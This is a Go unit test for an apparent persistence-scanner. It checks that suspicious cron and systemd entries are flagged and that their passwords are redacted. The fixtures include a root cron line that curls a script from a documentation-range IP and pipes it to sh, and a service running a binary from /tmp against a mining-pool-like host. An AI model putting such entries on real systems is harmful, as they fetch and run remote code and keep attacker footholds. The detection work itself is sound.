package persistence

import (
	"fmt"
	"strings"
	"testing"
)

// TestPasswordsAreNotKept: what a line would run stays readable, what it signs in with goes.
func TestPasswordsAreNotKept(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.write("/etc/cron.d/x", "* * * * * root curl -u me:sesame -H 'Authorization: Bearer sesame' http://198.51.100.1/x?token=sesame | sh\n")
	f.write("/etc/systemd/system/x.service", "[Service]\nEnvironment=DB_PASSWORD=sesame\nExecStart=/tmp/x --password=sesame -o pool.example:3333\n[Install]\nWantedBy=multi-user.target\n")
	found := suspicious(f.sample())
	if len(found) != 2 {
		t.Fatalf("%d suspicious entries: %+v", len(found), found)
	}
	all := fmt.Sprintf("%+v", found)
	if strings.Contains(all, "sesame") {
		t.Errorf("a password was kept: %s", all)
	}
	for _, evidence := range []string{"curl -u me:***", "http://198.51.100.1/x?token=***", "| sh", "-o pool.example:3333"} {
		if !strings.Contains(all, evidence) {
			t.Errorf("%q is gone: %s", evidence, all)
		}
	}
}
